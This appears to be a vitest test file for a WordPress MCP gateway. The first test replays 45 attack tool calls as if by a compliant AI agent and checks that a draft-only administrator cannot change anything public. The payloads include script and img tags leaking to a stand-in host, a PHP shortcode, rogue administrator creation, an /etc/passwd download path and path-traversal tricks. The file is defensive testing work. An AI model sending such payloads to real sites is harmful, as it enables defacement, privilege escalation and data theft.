import { expect, test } from 'vitest';
import { startNodeGateway } from '../support/gateway.ts';
import { basicAuth, useWordPress } from '../support/wordpress.ts';
import { type Agent, connectAgent, type ToolOutcome } from './agent.ts';

const site = useWordPress({ testPlugins: true });
const LEAK = 'https://other.example/?d=secret';

/** Everything that a visitor can read, without what differs in each response. */
async function readPublic(url: string): Promise<Readonly<Record<string, string>>> {
  const types = [
    'posts',
    'pages',
    'media',
    'comments',
    'categories',
    'tags',
    'users',
    'blocks',
    'products',
    'types',
  ];
  const paths = [
    ...['/', '/feed/', '/comments/feed/', '/about/', '/2024/01/post-25/', '/?s=attack', '/?s=draft'],
    ...types.map((type) => `/wp-json/wp/v2/${type}?per_page=100`),
    ...[
      '/wp-json/wp/v2/posts?search=attack',
      '/wp-json/wp/v2/menu-items',
      '/wp-json/wp/v2/settings',
      '/wp-json/community/v1',
    ],
  ];
  const read = async (path: string): Promise<readonly [string, string]> => {
    const response = await fetch(new URL(path, url));
    return [
      path,
      `${response.status} ${(await response.text()).replace(/<lastBuildDate>.*?<\/lastBuildDate>/g, '')}`,
    ];
  };
  return Object.fromEntries(await Promise.all(paths.map(read)));
}

/** Calls as an agent does that does what it is told: with the hash that a refusal names. */
async function insist({ call }: Agent, tool: string, args: Record<string, unknown>): Promise<ToolOutcome> {
  const first = await call(tool, args).catch((error: unknown) => ({
    text: String(error),
    content: '',
    isError: true,
  }));
  const if_match = /"if_match": "([^"]+)"/.exec(first.text)?.[1];
  return if_match === undefined ? first : call(tool, { ...args, if_match });
}

test('at draft, an administrator whose client asks nobody makes nothing public, whatever a page asks for', async () => {
  const { url, users } = site();
  const gateway = await startNodeGateway({ sites: [{ url, mcp: { writes: ['draft'], unasked: true } }] });
  const agent = await connectAgent(`${gateway.origin}/mcp`, basicAuth(users.administrator));
  const { call } = agent;
  await expect
    .poll(async () => (await call('search_operations', { query: 'posts' })).content)
    .toContain('listPosts');
  const headers = { authorization: basicAuth(users.administrator) };
  const [post] = await (await fetch(new URL('/wp-json/wp/v2/posts?per_page=1', url))).json();
  const [page] = await (await fetch(new URL('/wp-json/wp/v2/pages?per_page=1', url))).json();
  const [comment] = await (await fetch(new URL('/wp-json/wp/v2/comments?per_page=1', url))).json();
  const [media] = await (await fetch(new URL('/wp-json/wp/v2/media?per_page=1', url))).json();
  const created = await call('write_operation', {
    id: 'createPost',
    body: { title: 'A draft', content: 'One.' },
  });
  const { id } = JSON.parse(created.content);
  const draft = { id: 'updatePost', path: { id } };
  const before = await readPublic(url);

  const write = 'write_operation';
  const publicPost = { id: 'updatePost', path: { id: post.id } };
  const attacks: readonly (readonly [tool: string, args: Record<string, unknown>])[] = [
    // Those of reports about this gateway and others.
    [
      write,
      {
        id: 'createPost',
        body: {
          content: '<!-- wp:footnotes /-->',
          meta: { footnotes: `[{"content":"\\u003cimg src=${LEAK}>","id":"a"}]` },
        },
      },
    ],
    [
      write,
      {
        id: 'createPost',
        body: {
          status: 'publish',
          content: `<!-- wp:group {"style":{"background":{"backgroundImage":{"url":"https:/other.example/p"}}}} --><div></div><!-- /wp:group -->`,
        },
      },
    ],
    [
      write,
      {
        id: 'createPage',
        body: {
          content: '<!-- wp:group {"style":{"css":"&, body{display:none}"}} --><div></div><!-- /wp:group -->',
        },
      },
    ],
    [
      write,
      { ...publicPost, body: { content: `<img src="/?add-to-cart=64"><script src="${LEAK}"></script>` } },
    ],
    [write, { id: 'createPost', body: { content: '[insert_php]echo 1;[/insert_php]' } }],
    [write, { id: 'updateSettings', body: { title: 'attack' } }],
    ['delete_operation', { id: 'deletePost', path: { id: post.id } }],
    [
      write,
      {
        id: 'createUser',
        body: { username: 'attack', email: 'a@example.com', password: 'attack', roles: ['administrator'] },
      },
    ],
    [write, { id: 'createUserApplicationPassword', path: { user_id: 1 }, body: { name: 'attack' } }],
    ['read_operation', { id: 'getUrlDetails', query: { url: LEAK } }],
    // A draft that is published by another way than its status.
    [write, { ...draft, body: { status: 'publish' } }],
    [write, { ...draft, query: { status: 'publish' } }],
    [write, { ...draft, body: { title: 'attack' }, query: { ' status': 'publish' } }],
    [write, { ...draft, body: { status: ['publish'] } }],
    [write, { ...draft, body: { status: 'future', date: '2020-01-01T00:00:00' } }],
    [write, { ...draft, body: { date: '2020-01-01T00:00:00', sticky: true } }],
    [write, { ...draft, edit_text: { member: 'status', old: 'draft', new: 'publish' } }],
    [write, { ...draft, edit_text: { member: 'status', old: 'draft', new: 'trash' } }],
    // A page hides the post of its slug where permalinks have no date.
    [write, { id: 'createPage', body: { title: 'attack', slug: post.slug } }],
    [write, { id: 'createPage', body: { title: post.title.rendered, status: 'private' } }],
    [write, { ...draft, path: { id: `${id}/../${post.id}` }, body: { title: 'attack' } }],
    [write, { ...draft, body: { id: post.id, title: 'attack' } }],
    [write, { ...draft, query: { _method: 'DELETE' }, body: { title: 'attack' } }],
    [write, { ...draft, query: { rest_route: `/wp/v2/posts/${post.id}` }, body: { title: 'attack' } }],
    // What is public, directly and by what belongs to it.
    [
      write,
      { ...publicPost, edit_text: { member: 'title', old: post.title.rendered.slice(0, 1), new: 'attack' } },
    ],
    [write, { ...publicPost, body: { status: 'private' } }],
    [write, { ...publicPost, body: { status: 'draft' } }],
    [write, { ...publicPost, body: { status: 'trash' } }],
    [write, { id: 'updatePage', path: { id: page.id }, body: { template: 'attack', title: 'attack' } }],
    [write, { id: 'createPostAutosave', path: { id: post.id }, body: { content: 'attack' } }],
    [write, { id: 'createPostAutosave', path: { id }, body: { content: 'attack', status: 'publish' } }],
    [write, { id: 'createComment', body: { post: post.id, content: 'attack' } }],
    [write, { id: 'updateComment', path: { id: comment?.id ?? 1 }, body: { content: 'attack' } }],
    [
      write,
      { id: 'updateMedia', path: { id: media?.id ?? 1 }, body: { title: 'attack', alt_text: 'attack' } },
    ],
    [write, { id: 'createMedia', body: { file: { name: 'attack.png', base64: 'aGk=' }, post: post.id } }],
    [write, { ...publicPost, body: { featured_media: { file: { name: 'attack.png', base64: 'aGk=' } } } }],
    [write, { ...publicPost, restore: post.id }],
    [write, { id: 'createTag', body: { name: 'attack' } }],
    [write, { id: 'updateCategory', path: { id: 1 }, body: { name: 'attack' } }],
    [write, { id: 'createBlock', body: { title: 'attack', content: 'attack', status: 'publish' } }],
    [write, { id: 'createNavigation', body: { title: 'attack', content: 'attack' } }],
    [write, { id: 'createMenu', body: { name: 'attack' } }],
    [write, { id: 'updateTemplate', path: { id: 'twentytwentyfour//index' }, body: { content: 'attack' } }],
    [
      write,
      {
        id: 'createPostTypeProduct',
        body: { title: 'attack', status: 'publish', downloads: [{ file: '/etc/passwd' }] },
      },
    ],
    [
      write,
      {
        id: 'runBatch',
        body: { requests: [{ method: 'POST', path: `/wp/v2/posts/${id}`, body: { status: 'publish' } }] },
      },
    ],
  ];
  const outcomes: string[] = [];
  for (const [tool, args] of attacks) {
    const { text } = await insist(agent, tool, args);
    expect(text).not.toContain('no operation of this id');
    outcomes.push(
      text.startsWith('HTTP 20') ? 'stored' : text.startsWith('HTTP') ? 'refused by the site' : 'refused',
    );
  }
  expect(await readPublic(url)).toEqual(before);
  // Drafts with anything in them are stored; everything else is refused here, and the site is asked for nothing.
  expect(outcomes).not.toContain('refused by the site');
  const items = await (
    await fetch(new URL('/wp-json/wp/v2/posts?status=any&context=edit&per_page=100', url), { headers })
  ).json();
  const mine = items.filter((item: { author: number; id: number }) => item.id >= id);
  expect(mine.length).toBeGreaterThan(2);
  expect(mine.map((item: { status: string }) => item.status)).toEqual(mine.map(() => 'draft'));
  expect({ attacks: attacks.length, stored: outcomes.filter((each) => each === 'stored').length }).toEqual({
    attacks: 45,
    stored: 4,
  });
}, 120_000);

/** A picture of one pixel. */
const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

test('at draft, a person gets a draft with its picture, and an earlier version of it', async () => {
  const { url, users } = site();
  const gateway = await startNodeGateway({ sites: [{ url, mcp: { writes: ['draft'] } }] });
  const { call } = await connectAgent(`${gateway.origin}/mcp`, basicAuth(users.editor));
  await expect
    .poll(async () => (await call('search_operations', { query: 'posts' })).content)
    .toContain('listPosts');
  const picture = { file: { name: 'pixel.png', base64: PNG } };
  const body = { title: 'With a picture', content: '<p>One</p>', featured_media: picture };
  const created = await call('write_operation', { id: 'createPost', body });
  expect(created.text).toMatch(/^HTTP 201/);
  const { id, status } = JSON.parse(created.content);
  expect(status).toBe('draft');
  const fields = ['featured_media', 'content.raw'];
  const edit = { query: { context: 'edit' }, fields, raw: true };
  const update = { id: 'updatePost', path: { id } };
  const readPost = (): ReturnType<typeof call> =>
    call('read_operation', { id: 'getPost', path: { id }, ...edit });
  const read = await readPost();
  const { content, featured_media } = JSON.parse(read.content);
  expect({ content, featured_media }).toEqual({
    content: { raw: '<p>One</p>' },
    featured_media: expect.any(Number),
  });
  for (const text of ['<p>Two</p>', '<p>Three</p>']) {
    const if_match = /"if_match": "([^"]+)"/.exec((await readPost()).text)?.[1];
    const written = await call('write_operation', { ...update, body: { content: text }, if_match });
    expect(written.text).toBe('HTTP 200');
  }
  const revisions = await call('read_operation', {
    id: 'listPostRevisions',
    path: { parent: id },
    fields: ['id', 'content.raw'],
    query: { context: 'edit' },
    raw: true,
  });
  const two = JSON.parse(revisions.content).find(
    (each: { content: { raw: string } }) => each.content.raw === '<p>Two</p>',
  );
  expect((await call('write_operation', { ...update, restore: two.id })).text).toBe('HTTP 200');
  const last = await readPost();
  expect(JSON.parse(last.content).content.raw).toBe('<p>Two</p>');
}, 120_000);
